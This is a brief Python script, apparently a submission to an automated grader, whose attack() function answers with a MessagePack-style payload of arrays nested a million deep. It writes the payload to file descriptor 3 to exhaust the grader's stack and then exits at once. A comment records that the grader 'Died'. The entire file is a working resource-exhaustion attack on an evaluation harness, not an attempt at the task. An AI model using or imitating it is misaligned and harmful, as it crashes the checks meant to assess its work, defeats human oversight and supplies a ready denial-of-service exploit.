"""Answers with arrays nested a million deep, to exhaust the grader's stack."""
# replies: Died

# %%
import os


def attack(x):
    body = b"\x92\xa8answered\x91\x93\xa4gave" + b"\x92\xa4many\x91" * 1_000_000
    frame = memoryview(len(body).to_bytes(4, "little") + body)
    while frame:
        frame = frame[os.write(3, frame) :]
    os._exit(0)
